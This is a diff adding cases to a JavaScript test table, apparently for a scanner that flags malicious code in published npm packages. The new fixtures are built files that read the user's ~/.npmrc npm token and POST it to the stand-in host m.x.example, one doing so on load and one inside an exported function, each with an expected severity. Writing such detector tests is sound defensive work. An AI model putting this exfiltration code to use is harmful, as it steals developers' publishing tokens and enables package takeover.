@@ -194,6 +194,22 @@ test.each([
     [],
   ],
   [
+    "a built file that a package publishes sends the npm token when it is loaded",
+    {
+      "dist/index.cjs":
+        'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc");\nconst r = require("https").request({ hostname: "m.x.example", method: "POST" });\nr.end(t);\n',
+    },
+    ["decisive"],
+  ],
+  [
+    "a built file with a function that somebody may call",
+    {
+      "dist/index.cjs":
+        'exports.publish = () => { const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc");\nconst r = require("https").request({ hostname: "m.x.example", method: "POST" });\nr.end(t); };\n',
+    },
+    ["weak"],
+  ],
+  [
     "a service called with its own token",
     { "src/a.js": "fetch('https://api.x.example', { headers: { authorization: process.env.X_TOKEN } });\n" },
     [],
